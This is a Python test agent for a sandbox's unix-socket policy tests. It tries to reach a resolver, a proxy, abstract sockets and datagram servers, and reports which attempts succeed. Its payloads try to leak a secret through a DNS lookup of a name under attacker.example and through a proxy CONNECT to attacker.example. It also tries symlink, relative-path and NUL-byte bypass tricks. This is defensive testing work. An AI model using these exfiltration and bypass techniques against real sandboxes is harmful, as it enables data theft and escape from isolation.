#!/usr/bin/env python3
"""Hostile agent for tests/tests/unix_sockets.rs: tries to reach local
services over unix sockets (a resolver's varlink API, a unix-socket proxy,
abstract sockets of host daemons, datagram servers) and reports each
attempt as one JSON line: {"name", "ok", "errno", "reply"}.

argv[1]: JSON {"resolver", "proxy", "allowed", "alias", "abstract_bad",
"abstract_ok", "dgram_bad", "dgram_ok", "secret"}. unix_lsm_agent.py
imports the helpers.
"""
import errno
import json
import os
import socket
import sys

def report(name, ok, err=None, reply=None):
    print(json.dumps({"name": name, "ok": ok,
                      "errno": errno.errorcode.get(err) if err else None,
                      "reply": reply}), flush=True)


def stream(name, addr, payload):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(payload)
        reply = b""
        try:
            reply = s.recv(4096)
        except OSError:
            pass
        report(name, True, reply=reply.decode("utf-8", "replace"))
    except OSError as e:
        report(name, False, e.errno)
    finally:
        s.close()


def dgram_sendto(name, addr, payload):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        s.sendto(payload, addr)
        report(name, True)
    except OSError as e:
        report(name, False, e.errno)
    finally:
        s.close()


def dgram_connect(name, addr, payload):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        s.connect(addr)
        s.send(payload)
        report(name, True)
    except OSError as e:
        report(name, False, e.errno)
    finally:
        s.close()


def varlink_call(secret):
    """systemd-resolved's varlink API: NUL-terminated JSON. The resolver
    would resolve (and leak) any name, outside the DNS proxy."""
    return json.dumps({"method": "io.systemd.Resolve.ResolveHostname",
                       "parameters": {"name": secret + ".attacker.example"}}).encode() + b"\0"


def main():
    CFG = json.loads(sys.argv[1])
    secret = CFG["secret"]
    stream("resolver_varlink", CFG["resolver"], varlink_call(secret))
    # An HTTP proxy on a unix socket outside the identity.
    stream("proxy", CFG["proxy"], b"CONNECT attacker.example:443 HTTP/1.1\r\nX-Secret: " +
           secret.encode() + b"\r\n\r\n")
    # The same proxy by a relative path (the cwd is the test directory).
    stream("proxy_relative", os.path.basename(CFG["proxy"]), b"relative " + secret.encode())
    # A symlink to the allowed socket: a different string (cgroup hooks match strings).
    stream("allowed_via_symlink", CFG["alias"], b"alias " + secret.encode())
    # A host daemon's abstract socket.
    stream("abstract_bad", "\0" + CFG["abstract_bad"], b"abstract " + secret.encode())
    # An abstract name that extends an allowed one (every byte counts).
    stream("abstract_ok_extended", b"\0" + CFG["abstract_ok"].encode() + b"\0x",
           b"extended " + secret.encode())
    # Datagrams.
    dgram_sendto("dgram_sendto_bad", CFG["dgram_bad"], b"dgram " + secret.encode())
    dgram_connect("dgram_connect_bad", CFG["dgram_bad"], b"dgram-connect " + secret.encode())
    # What the policy allows.
    stream("allowed_path", CFG["allowed"], b"hello-allowed")
    # The allowed path with bytes after its NUL: the kernel reads up to the NUL.
    stream("allowed_path_nul_garbage", CFG["allowed"].encode() + b"\0garbage", b"hello-nul")
    stream("abstract_ok", "\0" + CFG["abstract_ok"], b"hello-abstract")
    dgram_sendto("dgram_sendto_ok", CFG["dgram_ok"], b"hello-dgram")
    # socketpair has no address: not judged.
    a, b = socket.socketpair()
    a.sendall(b"pair")
    report("socketpair", b.recv(4) == b"pair")


if __name__ == "__main__":
    main()
